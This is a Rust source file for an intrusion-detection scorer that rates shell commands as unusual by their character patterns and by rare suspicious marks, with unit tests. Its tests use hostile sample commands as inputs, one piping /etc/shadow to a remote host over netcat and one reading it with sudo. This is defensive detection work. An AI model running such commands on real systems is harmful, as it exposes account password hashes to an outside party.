//! How unusual a command line is: its text, and the marks that it bears.
//!
//! - *Text*: the mean surprise of each character after the five before it, less two fifths of what it
//!   has after one. So a text is not strange for its rare letters but for their unusual order. Numbers
//!   count as one digit.
//! - *Marks*: what a person who watches for intruders would look at (see `marks.rs`): kinds of
//!   programs, of paths and of forms. A mark counts by how rare it is among normal commands, less what
//!   it is expected to cost an intruder; only the strongest one counts.
//!
//! # Invariants
//!
//! - Pure, deterministic, of fixed size. Of a command line the first [`MOST_BYTES`] bytes count, and
//!   the first [`MOST_MARKS`] of its marks.
//! - The score follows from its explanation: [`CommandScore::recompute`] takes nothing else.

pub(crate) mod days;
pub(crate) mod line;
mod lists;
mod marks;
mod words;

use std::collections::BTreeMap;

use crate::ngrams::Ngrams;
use crate::surprise::Bits;
use crate::tail::Tail;
use marks::Mark;

/// Knows normal command lines.
#[derive(Clone, Debug)]
pub struct CommandModel {
    text: Ngrams,
    marks: BTreeMap<Mark, u32>,
    kinds: BTreeMap<&'static str, Kind>,
    commands: u32,
    tail: Tail,
}

/// What is known of a kind of mark.
#[derive(Clone, Copy, Debug, Default)]
struct Kind {
    /// Normal commands that bore one of it.
    commands: u32,
    /// Different marks of it among them.
    distinct: u32,
}

/// How unusual a command line is, and why.
#[derive(Clone, Debug, PartialEq)]
pub struct CommandScore {
    /// What commands are ranked by: that of the text and of the strongest mark together.
    pub score: f64,
    /// How rare a score at least this high is among normal commands, in bits.
    pub rarity: f64,
    /// Characters that counted, after folding.
    pub characters: u32,
    /// Their surprise altogether, in bits.
    pub text_bits: f64,
    /// The same when only one character before each is known.
    pub plain_bits: f64,
    /// Words of the line.
    pub words: u32,
    /// Normal commands known.
    pub commands: u32,
    /// Its marks, strongest first.
    pub marks: Vec<MarkScore>,
}

/// One mark of a command line.
#[derive(Clone, Debug, PartialEq)]
pub struct MarkScore {
    /// The kind, as `file of accounts`.
    pub kind: &'static str,
    /// The mark itself, as `/etc/shadow`.
    pub mark: &'static str,
    /// Normal commands that bore it.
    pub seen: u32,
    /// Normal commands that bore a mark of its kind.
    pub kind_seen: u32,
    /// Different marks of the kind among normal commands.
    pub distinct: u32,
    /// Surprise of the mark, in bits.
    pub bits: f64,
    /// Bits that a mark of this kind costs before it counts.
    pub cost: f64,
}

impl CommandModel {
    /// Learns from normal command lines.
    ///
    /// The rarities are taken from a fifth of them, measured by a model that did not learn it.
    pub fn learn<'c>(secret: [u8; 16], commands: impl Iterator<Item = &'c [u8]> + Clone) -> Self {
        let numbered = commands.clone().enumerate();
        let mut most = Self::empty(secret);
        for (_, command) in numbered.clone().filter(|(number, _)| number % FOLDS != 0) {
            most.take_in(command);
        }
        let mut whole = Self::empty(secret);
        for (_, command) in numbered.filter(|(number, _)| number % FOLDS == 0) {
            let score = most.score(command).score;
            whole.tail.learn(Bits::from_f64(score + TAIL_SHIFT));
        }
        for command in commands {
            whole.take_in(command);
        }
        whole
    }

    /// How unusual the command line is.
    pub fn score(&self, command: &[u8]) -> CommandScore {
        let command = bounded(command);
        let symbols = symbols(command);
        let surprise = self.text.surprise(&symbols);
        let (words, found) = marks::of(command);
        let mut marks: Vec<MarkScore> = found.iter().map(|mark| self.mark(mark)).collect();
        marks.sort_by(|a, b| b.worth().total_cmp(&a.worth()));
        let mut score = CommandScore {
            score: 0.0,
            rarity: 0.0,
            characters: count(symbols.len()),
            text_bits: in_bits(surprise.units),
            plain_bits: in_bits(surprise.plain),
            words,
            commands: self.commands,
            marks,
        };
        score.score = score.recompute();
        score.rarity = self.tail.rarity(Bits::from_f64(score.score + TAIL_SHIFT));
        score
    }

    /// Bytes that the state takes at most.
    pub fn state_bytes(&self) -> usize {
        let a_mark = size_of::<Mark>() + size_of::<u32>() + size_of::<Kind>() + 64;
        self.text.state_bytes() + marks::most() * a_mark + Tail::state_bytes()
    }

    fn empty(secret: [u8; 16]) -> Self {
        Self {
            text: Ngrams::new(6, 128, 1 << 19, secret),
            marks: BTreeMap::new(),
            kinds: BTreeMap::new(),
            commands: 0,
            tail: Tail::default(),
        }
    }

    fn take_in(&mut self, command: &[u8]) {
        let command = bounded(command);
        self.text.learn(&symbols(command));
        self.commands = self.commands.saturating_add(1);
        let (_, found) = marks::of(command);
        let mut counted: Option<&'static str> = None;
        for mark in found {
            let seen = self.marks.entry(mark).or_default();
            *seen = seen.saturating_add(1);
            let kind = self.kinds.entry(mark.kind).or_default();
            kind.distinct += u32::from(*seen == 1);
            kind.commands += u32::from(counted.replace(mark.kind) != Some(mark.kind));
        }
    }

    fn mark(&self, mark: &Mark) -> MarkScore {
        let kind = self.kinds.get(mark.kind).copied().unwrap_or_default();
        let mut score = MarkScore {
            kind: mark.kind,
            mark: mark.name,
            seen: self.marks.get(mark).copied().unwrap_or_default(),
            kind_seen: kind.commands,
            distinct: kind.distinct,
            bits: 0.0,
            cost: marks::cost(mark.kind),
        };
        score.bits = score.surprise(self.commands);
        score
    }
}

impl CommandScore {
    /// The score from the other fields alone: the same number, bit for bit.
    pub fn recompute(&self) -> f64 {
        let marks = self.marks.iter();
        let strongest = marks
            .map(|mark| mark.surprise(self.commands) - mark.cost)
            .fold(0.0, f64::max);
        weigh(
            [self.text_bits, self.plain_bits],
            self.characters,
            strongest,
            self.words,
        )
    }
}

/// The score of a line: its text (all that is known before each character, and one character alone),
/// and what its strongest mark is worth.
fn weigh([text, plain]: [f64; 2], characters: u32, strongest: f64, words: u32) -> f64 {
    let text = (text - PLAIN_SHARE * plain) / (f64::from(characters) + SPARE_CHARACTERS);
    let room = (f64::from(words) + SPARE_WORDS).sqrt();
    text + MARK_SHARE * strongest.max(0.0) / room
}

/// `-log2` of the share of normal commands with such a mark, the kind first and then the mark:
/// `kind` of `commands` bore one of its kind; `seen` of the `within` sightings of the kind were this one
/// of `distinct` marks.
fn surprise_of_mark([kind, commands]: [u32; 2], [seen, within, distinct]: [u32; 3]) -> Bits {
    let kind = (f64::from(kind) + 1.0) / (f64::from(commands) + KINDS);
    let within = f64::from(within) + f64::from(distinct.max(1)) + 1.0;
    let mark = ((f64::from(seen) + 0.5) / within).min(1.0);
    Bits::of(kind.min(1.0) * mark)
}

impl MarkScore {
    fn surprise(&self, commands: u32) -> f64 {
        let kind = [self.kind_seen, commands];
        surprise_of_mark(kind, [self.seen, self.kind_seen, self.distinct]).to_f64()
    }

    fn worth(&self) -> f64 {
        self.bits - self.cost
    }
}

fn bounded(command: &[u8]) -> &[u8] {
    command.get(..MOST_BYTES).unwrap_or(command)
}

/// The characters, with a beginning and an end; a number is one digit, what is not ASCII one letter.
fn symbols(command: &[u8]) -> Vec<u16> {
    let mut symbols = Vec::with_capacity(command.len() + 2);
    symbols.push(BEGIN);
    for byte in command {
        let symbol = match byte {
            b'0'..=b'9' => u16::from(b'0'),
            128.. => FOREIGN,
            byte => u16::from(*byte),
        };
        if symbol != u16::from(b'0') || symbols.last() != Some(&symbol) {
            symbols.push(symbol);
        }
    }
    symbols.push(END);
    symbols
}

fn count(n: usize) -> u32 {
    u32::try_from(n).unwrap_or(u32::MAX)
}

/// From units of 1/1024 bit; exact, since a line has at most [`MOST_BYTES`] characters.
fn in_bits(units: u64) -> f64 {
    Bits(u32::try_from(units).unwrap_or(u32::MAX)).to_f64()
}

/// Bytes of a command line that count.
pub(crate) const MOST_BYTES: usize = 1_024;
/// Marks of a command line that count.
pub(crate) const MOST_MARKS: usize = 32;
/// Symbols for both ends of a line and for what is not ASCII.
const BEGIN: u16 = 1;
const END: u16 = 2;
const FOREIGN: u16 = 3;
/// A fifth of the normal commands gives the rarities.
const FOLDS: usize = 5;
/// What of plain surprise is taken off.
const PLAIN_SHARE: f64 = 0.4;
/// As if a line had so many more characters, all expected: a short line proves little.
const SPARE_CHARACTERS: f64 = 4.0;
/// What a bit of the strongest mark is worth beside a bit for each character.
const MARK_SHARE: f64 = 1.25;
/// As if a line had so many more words: a long line bears a mark more easily.
const SPARE_WORDS: f64 = 20.0;
/// Kinds of marks, for the share of one that was never seen.
const KINDS: f64 = 32.0;
/// So that no score is below zero where rarities are taken.
const TAIL_SHIFT: f64 = 16.0;

#[cfg(test)]
mod tests {
    use super::*;

    fn model() -> CommandModel {
        let lines: Vec<String> = (0..400)
            .map(|n| {
                format!(
                    "find . -name '*.{}' -size +{n}k | wc -l",
                    ["rs", "md", "c"][n % 3]
                )
            })
            .collect();
        CommandModel::learn([4; 16], lines.iter().map(String::as_bytes))
    }

    #[test]
    fn a_score_is_its_explanation() {
        let model = model();
        for line in [
            "find . -name x",
            "cat /etc/shadow | nc 10.0.0.1 4444",
            "",
            "\u{1f980} \0\u{7f}",
        ] {
            let score = model.score(line.as_bytes());
            assert_eq!(score.score.to_bits(), score.recompute().to_bits(), "{line}");
        }
    }

    #[test]
    fn what_reads_the_shadow_file_stands_above_what_is_usual() {
        let model = model();
        let usual = model.score(b"find . -name '*.rs' -size +7k | wc -l");
        let strange = model.score(b"sudo cat /etc/shadow");
        assert!(
            usual.rarity < 3.0 && strange.rarity > 8.0,
            "{usual:?} {strange:?}"
        );
        assert_eq!(strange.marks[0].mark, "/etc/shadow");
    }

    #[test]
    fn a_mark_that_everybody_bears_counts_for_nothing() {
        let lines: Vec<String> = (0..300)
            .map(|n| format!("sudo systemctl restart web-{n}"))
            .collect();
        let model = CommandModel::learn([4; 16], lines.iter().map(String::as_bytes));
        let score = model.score(b"sudo systemctl restart web-7");
        assert!(
            score.marks.iter().all(|mark| mark.bits < mark.cost),
            "{score:?}"
        );
    }

    #[test]
    fn no_bytes_and_no_length_make_it_panic_or_differ() {
        let model = model();
        for length in [0, 1, 7, 1_023, 1_024, 1_025, 100_000] {
            let line: Vec<u8> = (0..length)
                .map(|n: u32| (n * 167).to_le_bytes()[0])
                .collect();
            let score = model.score(&line);
            assert_eq!(score, model.score(&line));
            assert!(score.score.is_finite() && score.marks.len() <= MOST_MARKS);
        }
    }

    #[test]
    fn a_model_takes_less_than_ten_megabytes() {
        assert!(model().state_bytes() < 10_000_000);
    }
}
